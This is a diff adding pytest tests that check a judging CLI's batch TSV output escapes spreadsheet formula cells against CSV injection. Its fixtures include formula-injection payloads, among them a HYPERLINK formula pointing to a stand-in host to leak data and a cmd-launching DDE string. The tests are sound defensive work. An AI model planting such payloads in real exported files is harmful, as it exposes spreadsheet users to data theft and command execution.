@@ -312,3 +312,50 @@ def test_error_lines_show_batch_header_and_house_rules_text_escaped(tmp_path) ->
         r = runner.invoke(app, args, color=True)
         assert r.exit_code == 2 and r.stderr.startswith("error: "), r.output
         assert not any(c in r.stderr for c in "\x1b\x07\u202e"), repr(r.stderr)
+
+
+# ------------------------------------------------------------- --batch: formula cells
+
+
+def test_batch_escapes_cells_spreadsheets_would_run_as_formulas(tmp_path, judges) -> None:
+    """OWASP "CSV Injection": a text cell starting with =, +, - or @ gets a leading ',
+    while accepted and score stay the judge's numbers (issue 20, point 7)."""
+    from kiekai.commands.judge import formula_safe
+    from kiekai.judge.verdict import Strictness
+
+    pairs = [
+        ("=1+1", "dog"),
+        ("dog", '=HYPERLINK("http://x.example/?leak","open")'),
+        ("+cmd|' /C calc'!A0", "cat"),
+        ("-2+3", "@SUM(A1:A9)"),
+        ("mice", "mouse"),  # plain cells unchanged
+        ("e-mail", "email"),  # a dash inside a word is no formula
+    ]
+    path = tmp_path / "formulas.tsv"
+    path.write_text("secret\tguess\n" + "".join(f"{s}\t{g}\n" for s, g in pairs), encoding="utf-8")
+    r = run("judge", "--batch", str(path))
+    assert r.exit_code == 0, r.output
+    rows = _tsv_rows(r.stdout)[1:]
+    assert len(rows) == len(pairs)
+    judge = judges[Strictness.STANDARD]
+    for (secret, guess), row in zip(pairs, rows, strict=True):
+        verdict = judge.match(secret, guess)
+        assert row[0] == formula_safe(secret) and row[1] == formula_safe(guess)
+        assert row[2] == ("1" if verdict.accepted else "0")  # accepted: unchanged
+        assert float(row[3]) == pytest.approx(verdict.score, abs=1e-4)  # score: unchanged
+        for cell in (row[0], row[1], row[4], row[5]):
+            assert not cell.startswith(("=", "+", "-", "@")), row
+    assert rows[0][0] == "'=1+1" and rows[3][1] == "'@SUM(A1:A9)"
+    assert rows[4][:2] == ["mice", "mouse"] and rows[4][2] == "1"
+    assert rows[5][0] == "e-mail"
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [("=A1", "'=A1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
+     ("a=b", "a=b"), ("", ""), ("'=A1", "'=A1"), ("dog", "dog")],
+)  # fmt: skip
+def test_formula_safe(cell, written) -> None:
+    from kiekai.commands.judge import formula_safe
+
+    assert formula_safe(cell) == written
